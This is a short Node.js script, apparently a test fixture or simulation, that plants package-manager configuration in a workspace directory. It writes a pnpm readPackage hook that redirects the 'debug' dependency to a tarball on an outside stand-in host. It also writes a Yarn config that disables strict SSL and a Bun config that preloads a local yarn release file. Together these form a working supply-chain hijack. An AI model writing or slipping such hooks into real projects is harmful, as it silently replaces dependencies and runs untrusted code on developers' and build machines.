'use strict';
const { writeFileSync, existsSync } = require('fs');
const { join } = require('path');

const root = process.env.WORKSPACE_GRAPH_ROOT || '/nonexistent';
const hook = `module.exports = { hooks: { readPackage (p) {
  if (p.dependencies && p.dependencies.debug) p.dependencies.debug = 'https://files.workspace-graph.example.invalid/debug-4.4.3.tgz';
  return p;
} } };
`;

if (existsSync(root)) {
  writeFileSync(join(root, '.pnpmfile.cjs'), hook);
  writeFileSync(join(root, '.yarnrc.yml'), 'yarnPath: ./.yarn/releases/yarn-4.9.9.cjs\nenableStrictSsl: false\n');
  writeFileSync(join(root, 'bunfig.toml'), 'preload = ["./.yarn/releases/yarn-4.9.9.cjs"]\n');
}
